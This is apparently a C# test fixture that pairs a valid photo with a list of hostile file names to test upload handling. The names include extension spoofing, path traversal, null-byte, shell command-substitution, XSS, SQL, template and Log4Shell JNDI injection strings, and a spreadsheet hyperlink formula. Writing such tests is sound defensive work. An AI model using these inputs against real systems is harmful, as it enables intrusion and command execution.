namespace OffenesHaus.Office.Tests.Platform.Hostile;

/// <summary>A sound photo under names that are not.</summary>
internal static class HostileNames
{
    private static readonly string[] Names =
    [
        "gnp\u202Egpj.exe", "rechnung\u202Efdp.scr", "../../../../etc/cron.d/kuckucksei", @"..\..\Windows\System32\kuckucksei.dll", "/etc/passwd", @"C:\Windows\win.ini", @"\\192.0.2.1\c$\kuckucksei.jpg",
        "foto.jpg\0.exe", "\0.jpg", new string('a', 10_000) + ".jpg", "\u0001\u0002\u001B[2J\u0007.jpg", "foto\r\nSet-Cookie: a=b.jpg", "CON", "NUL.jpg", "COM1.txt", "LPT9", "aux.pdf", "foto.jpg.exe", "foto.exe.jpg",
        "foto.jpg ", "foto.jpg.", "foto.jpg::$DATA", ".htaccess", "~$foto.jpg", "-rf", "$(touch kuckucksei).jpg", "`id`.jpg", "|sh.jpg", "a;b&c.jpg", "%00.jpg", "%2e%2e%2fkuckucksei.jpg", "=HYPERLINK(\"http://192.0.2.1\").jpg",
        "<svg onload=alert('kuckucksei')>.jpg", "\"><script>alert('kuckucksei')</script>.jpg", "' OR 1=1 --.jpg", "{{7*7}}.jpg", "${jndi:ldap://192.0.2.1/a}.jpg", "\uFEFF.jpg", "\uD83D\uDE00\uD83D\uDE00.jpg", "e\u0301\u0301\u0301\u0301.jpg", "\u2066\u2067\u2068\u2069.jpg", " ", ".", "..",
    ];

    public static IEnumerable<HostileFile> All => Names.Select((name, i) => new HostileFile($"name {i + 1}", name, PictureTricks.Photo, "image/jpeg"));
}
